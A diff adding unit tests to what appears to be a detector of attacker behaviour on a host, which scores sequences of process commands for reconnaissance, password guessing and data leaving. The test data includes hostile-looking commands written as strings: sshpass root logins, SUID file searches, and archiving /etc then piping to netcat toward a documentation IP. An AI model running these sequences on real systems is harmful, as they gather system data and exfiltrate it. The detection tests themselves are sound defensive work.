@@ -161,6 +161,45 @@ test.each<[string, string | undefined, string[]]>([
   expect(proofs.map(({ finding: { says, question } }) => `${says} ${question}`)).toEqual(expected)
 })
 
+test.each<[string, string[], number, string[]]>([
+  ['four passwords', times(4, (i) => `sshpass -p pw${i} ssh root@h id`), 1, []],
+  ['four names', times(4, (i) => `dig +short ${label(i)}.t.example TXT`), 1, []],
+  [
+    'five kinds of questions',
+    ['id', 'uname -a', 'ps aux', 'ss -tlnp', 'find / -perm -4000'],
+    1,
+    [],
+  ],
+  [
+    'an archive that leaves soon',
+    ['tar cz /etc', 'nc h 1', 'nc 203.0.113.9 1'],
+    28,
+    ['supports exfiltration'],
+  ],
+  ['an archive that leaves later', ['tar cz /etc', 'nc h 1', 'nc 203.0.113.9 1'], 32, []],
+])('%s', (_, commands, every, proofs) => {
+  expect(run(commands, { every }).proofs).toEqual(proofs)
+})
+
+test('a question counts for a minute, ever less', () => {
+  const lineage = new Lineage()
+  const found = new Commands(lineage)
+  const questions = [0, 1, 40].map((s) => {
+    const command = ['id', 'uname -a', 'ps aux'][s === 40 ? 2 : s]!
+    const frame = frameOf(1_000 + s, [
+      { pid: STARTER, name: 'php', startMs: 1_000, counts: { clone: 1 } },
+      {
+        ...{ pid: 100 + s, name: 'x', startMs: (1_000 + s) * 1000, ppid: STARTER, command },
+        counts: { execve: 1 },
+      },
+    ])
+    lineage.push(frame)
+    return found.push(frame).discoveries[0]?.questions
+  })
+  expect(questions.slice(0, 2)).toEqual([undefined, undefined])
+  expect(questions[2]).toBeCloseTo((1 * 0.985 + 1) * 0.985 ** 39 + 1, 5)
+})
+
 test('questions of two minutes do not belong together', () => {
   expect(run(['id', 'uname -a', 'ps aux'], { every: 61 }).asked).toEqual([])
 })
